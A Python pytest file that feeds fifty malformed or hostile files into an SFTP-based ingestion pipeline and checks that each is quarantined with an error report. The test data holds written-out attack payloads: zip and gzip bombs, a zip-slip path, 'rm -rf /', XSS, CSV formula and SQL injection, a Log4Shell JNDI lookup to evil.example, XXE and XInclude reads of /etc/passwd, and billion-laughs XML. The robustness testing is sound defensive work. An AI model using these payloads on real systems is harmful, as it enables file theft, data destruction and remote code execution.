"""Fifty files that nobody should have sent: each ends in the error folder with a report, and the next one is read."""

import gzip
import io
import os
import zipfile
from pathlib import Path

import pytest

from audit.models import Arrival
from connections.models import Poll, PollKind
from connections.pipeline.collect import collect
from tests.factories import ConnectionFactory
from tests.openssh import PARTNER_GID, PARTNER_UID, SSHD, OpenSSHServer
from tests.sftp.conftest import settings_of

pytestmark = [
    pytest.mark.openssh,
    pytest.mark.django_db,
    pytest.mark.skipif(not Path(SSHD).exists(), reason="no OpenSSH server on this machine"),
]

ISA = b"ISA*00*          *00*          *ZZ*GLOBEX         *ZZ*BYRON          *250102*1030*U*00401*000000001*0*P*>~"
XML = b'<?xml version="1.0"?>'
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))


def zipped() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/passwd", b"0" * 5_000_000)
    return file.getvalue()


CONTENTS: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \t\r\n" * 99,
    "zeros": b"\x00" * 4096,
    "every byte": bytes(range(256)) * 40,
    "gzip bomb": gzip.compress(b"\x00" * 10_000_000),
    "zip bomb": zipped(),
    "program": b"\x7fELF\x02\x01\x01" + b"\x90" * 3000,
    "windows program": b"MZ\x90\x00" + b"\xff" * 3000,
    "pdf": b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>endobj",
    "picture": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
    "macro sheet": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 900,
    "script": b"#!/bin/sh\nrm -rf /\n",
    "web page": b"<html><script>alert(document.cookie)</script></html>",
    "sign-in page": b"<!DOCTYPE html><title>Sign in</title><form action=//evil.example>",
    "formulas": b"number,amount\n=cmd|' /C calc'!A0,+1\n@SUM(1),-2\n\t=1,3\n",
    "sql": b"number,amount\n1'; DROP TABLE audit_payload; --,1\n",
    "template": b"{{ settings.SECRET_KEY }}{% debug %}\n${jndi:ldap://evil.example/a}\n",
    "terminal codes": b"\x1b]0;owned\x07\x1b[2J\x1b[31m\n",
    "long line": b"a" * 3_000_000,
    "long quote": b'"' + b"a,\n" * 500_000,
    "only quotes": b'"' * 99_999,
    "only commas": b"," * 500_000,
    "only line ends": b"\n" * 300_000,
    "many columns": b",".join(b"c%d" % n for n in range(20_000)) + b"\n",
    "old line ends": b"number;amount\r1;2\r" * 100,
    "mixed line ends": b"a,b\n1,2\r\n3,4\r5,6\x85",
    "utf-16": "Rechnung;Betrag\n1;2\n".encode("utf-16"),
    "utf-32": "Rechnung;Betrag\n1;2\n".encode("utf-32"),
    "utf-7": b"+AHs-number+AH0-,1\n",
    "half a character": "Zürich".encode()[:2],
    "overlong": b"\xc0\xaf\xe0\x80\xaf\n",
    "surrogates": b"\xed\xa0\x80\xed\xb0\x80\n",
    "right to left": "\u202e\u2066fdp.exe\u2069\n".encode(),
    "ebcdic": "INVOICE 0001".encode("cp500"),
    "many laughs": XML + b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l11;</x>",
    "quadratic": XML + b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 50_000 + b'">]><x>' + b"&a;" * 5000 + b"</x>",
    "outside entity": XML + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "outside grammar": XML + b'<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd"><x/>',
    "parameter entity": XML + b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/">%p;]><x/>',
    "deep xml": b"<a>" * 50_000,
    "wide xml": b"<a " + b" ".join(b'b%d="1"' % n for n in range(20_000)) + b"/>",
    "broken xml": XML + b"<a><b></a>",
    "inclusion": b'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></x>',
    "deep json": b"[" * 100_000,
    "huge number": b'{"n": ' + b"9" * 100_000 + b"}",
    "half an interchange": ISA[:80],
    "an endless interchange": ISA + b"GS*RA*A*B*20250102*1030*1*X*004010~" + b"ST*820*0001~" * 200,
    "delimiters that are one": b"ISA" + b"*" * 103,
    "edifact without end": b"UNA:+.? 'UNB+UNOA:1+A+B+250102:1030+1'" + b"UNH+1+REMADV:D:96A:UN'" * 200,
    "edifact of escapes": b"UNA:+.? 'UNB+" + b"?" * 200_000,
}


def test_there_are_fifty_of_them() -> None:
    assert len(CONTENTS) == 50


@pytest.mark.slow
def test_each_is_put_aside_with_a_report_and_stops_nothing(openssh: OpenSSHServer) -> None:
    folder = openssh.local("outbound")
    for age, (name, content) in enumerate(CONTENTS.items()):
        file = folder / f"{name}.dat"
        file.write_bytes(content)
        os.utime(file, (1_780_000_000 + age, 1_780_000_000 + age))
        if openssh.isolated:
            os.chown(file, PARTNER_UID, PARTNER_GID)
    connection = ConnectionFactory.create(
        system="sftp",
        settings=settings_of(openssh),
        credentials={"private_key": openssh.client_key_path.read_text()},
    )
    poll, _ = Poll.objects.get_or_create(
        connection=connection, kind=PollKind.PLACE, subject=openssh.remote("outbound")
    )

    assert collect(connection, poll) == 50

    assert list(folder.iterdir()) == []
    arrivals = {arrival.name.removesuffix(".dat"): arrival for arrival in Arrival.unscoped.all()}
    assert arrivals.keys() == CONTENTS.keys()
    for name, arrival in arrivals.items():
        assert bytes(arrival.payload.content) == CONTENTS[name]
        assert arrival.state in ("failed", "partly_failed"), name
        assert arrival.reason, name
        assert "root:" not in arrival.reason, name
    for name in CONTENTS:
        assert openssh.local(f"error/{name}.dat.report.txt").exists(), name
